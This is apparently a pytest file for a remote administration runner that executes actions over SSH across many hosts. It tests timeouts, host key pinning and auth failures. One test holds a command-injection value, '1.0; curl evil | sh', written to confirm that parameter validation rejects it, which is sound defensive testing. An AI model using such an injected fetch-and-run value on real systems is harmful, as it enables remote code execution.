"""Running actions on many hosts against a real sshd, a silent host and a closed port."""
from __future__ import annotations

import pytest

from telecentre.remote import runner
from telecentre.remote.catalogue import UnknownAction
from telecentre.remote.hostkeys import HostKeyPin, load_private_key
from telecentre.remote.params import InvalidParameters
from telecentre.remote.runner import Host, HostJob, run_action, run_many


def host(server, key="pc-01", pin=None, port=None):
    return Host(key, server.host, port or server.port, server.username,
                pin or server.host_keys["ssh-ed25519"], "linux")


class Recorder:
    """Collects progress events, as the service's callback will."""

    def __init__(self):
        self.events = []

    def __call__(self, event):
        self.events.append(event)

    def statuses(self, key):
        return [e.status for e in self.events if e.key == key]

    def final_index(self, key):
        return next(i for i, e in enumerate(self.events) if e.key == key and e.final)


def test_catalogue_action_runs_and_output_is_captured(sshd):
    progress = Recorder()
    [result] = run_action("disk_diagnostics", {}, [host(sshd)],
                          load_private_key(sshd.client_key_text), on_progress=progress)
    assert result.status == runner.DONE
    assert result.exit_code == 0
    assert "Filesystem" in result.output_tail  # df's header line
    assert result.started_at <= result.finished_at
    assert progress.statuses("pc-01") == ["queued", "running", "done"]


def test_failed_command_reports_its_exit_code(sshd):
    [result] = run_action("adhoc", {"command": "echo broken; exit 5"}, [host(sshd)],
                          load_private_key(sshd.client_key_text))
    assert (result.status, result.exit_code, result.output_tail) == ("failed", 5, "broken\n")


def test_dead_hosts_time_out_without_holding_up_the_others(sshd, silent_port, closed_port):
    """Two slots for four hosts: the silent one keeps a slot, the rest share the other."""
    progress = Recorder()
    hosts = [host(sshd, "silent", port=silent_port), host(sshd, "closed", port=closed_port),
             host(sshd, "pc-a"), host(sshd, "pc-b")]
    results = run_action("adhoc", {"command": "hostname"}, hosts,
                         load_private_key(sshd.client_key_text), max_parallel=2,
                         connect_timeout=4, on_progress=progress)
    by_key = {r.key: r for r in results}
    assert [r.key for r in results] == ["silent", "closed", "pc-a", "pc-b"]
    assert by_key["silent"].status == runner.TIMEOUT
    assert by_key["closed"].status == runner.UNREACHABLE
    assert by_key["pc-a"].status == by_key["pc-b"].status == runner.DONE
    assert by_key["pc-a"].output_tail.strip()
    # Both live hosts finished while the silent one was still waiting.
    silent_end = progress.final_index("silent")
    assert progress.final_index("pc-a") < silent_end
    assert progress.final_index("pc-b") < silent_end
    # The bound held: never more than two hosts running at once.
    running, peak = 0, 0
    for event in progress.events:
        running += event.status == "running"
        running -= event.final
        peak = max(peak, running)
    assert peak == 2


def test_changed_host_key_is_reported_per_host(sshd, sshd_factory):
    rekeyed = sshd_factory(host_key_types=("ed25519",))
    hosts = [host(rekeyed, "moved", pin=sshd.host_keys["ssh-ed25519"]), host(sshd, "fine")]
    results = run_action("adhoc", {"command": "echo hi"}, hosts,
                         load_private_key(sshd.client_key_text))
    moved, fine = results
    assert moved.status == runner.HOST_KEY_MISMATCH
    assert moved.presented_fingerprint == HostKeyPin.parse(
        rekeyed.host_keys["ssh-ed25519"]).fingerprint
    assert moved.exit_code is None and moved.output_tail == ""
    assert fine.status == runner.DONE and fine.output_tail == "hi\n"


def test_command_timeout_is_per_host_and_keeps_partial_output(sshd):
    key = load_private_key(sshd.client_key_text)
    jobs = [HostJob(host(sshd, "slow"), "echo started; sleep 8", timeout=1),
            HostJob(host(sshd, "quick"), "echo quick", timeout=30)]
    slow, quick = run_many(jobs, key)
    assert slow.status == runner.TIMEOUT and slow.output_tail == "started\n"
    assert quick.status == runner.DONE


def test_auth_failure_is_a_status_not_a_crash(sshd):
    from .keys import generate_private_key, private_text
    stranger = load_private_key(private_text(generate_private_key()))
    [result] = run_action("adhoc", {"command": "true"}, [host(sshd)], stranger)
    assert result.status == runner.AUTH_FAILED


def test_bad_parameters_stop_before_any_host_is_contacted():
    contacted = []

    def connector(*args, **kwargs):
        contacted.append(args)
        raise AssertionError("must not connect")

    target = Host("pc", "127.0.0.1", 1, "root", "SHA256:" + "A" * 43)
    with pytest.raises(InvalidParameters):
        run_action("update_agent", {"version": "1.0; curl evil | sh"}, [target], None,
                   connector=connector)
    with pytest.raises(UnknownAction):
        run_action("format_disk", {}, [target], None, connector=connector)
    assert contacted == []


def test_windows_and_linux_hosts_get_their_own_command():
    seen = {}

    class FakeConnection:
        def __init__(self, host):
            self.host = host

        def __enter__(self):
            return self

        def __exit__(self, *exc):
            return None

        def run(self, command, timeout, tail_bytes):
            seen[self.host] = command
            from telecentre.remote.ssh import CommandResult
            return CommandResult(0, "ok", 2)

    def connector(address, port, username, pin, key, connect_timeout):
        return FakeConnection(address)

    hosts = [Host("l", "10.0.0.1", 22, "root", "x", "linux"),
             Host("w", "10.0.0.2", 22, "it", "x", "windows")]
    results = run_action("restart_agent", {}, hosts, None, connector=connector)
    assert [r.status for r in results] == ["done", "done"]
    assert seen["10.0.0.1"].startswith("/bin/sh -c ")
    assert seen["10.0.0.2"].startswith("powershell.exe ")


def test_watchdog_gives_up_on_a_stuck_worker_and_keeps_the_bound():
    """A connector that never returns (a paramiko hang) cannot stall the run."""
    import threading
    release = threading.Event()

    class Quick:
        def __enter__(self):
            return self

        def __exit__(self, *exc):
            return None

        def run(self, command, timeout, tail_bytes):
            from telecentre.remote.ssh import CommandResult
            return CommandResult(0, "ok\n", 3)

    def connector(address, port, username, pin, key, connect_timeout):
        if address == "stuck":
            release.wait(30)
        return Quick()

    jobs = [HostJob(Host(name, name, 22, "root", "x"), "true", timeout=0.1)
            for name in ("stuck", "a", "b")]
    try:
        results = run_many(jobs, None, max_parallel=1, connect_timeout=0.1,
                           connector=connector, watchdog_grace=0.3)
    finally:
        release.set()
    assert [(r.key, r.status) for r in results] == [
        ("stuck", "timeout"), ("a", "done"), ("b", "done")]
    assert "hard deadline" in results[0].error
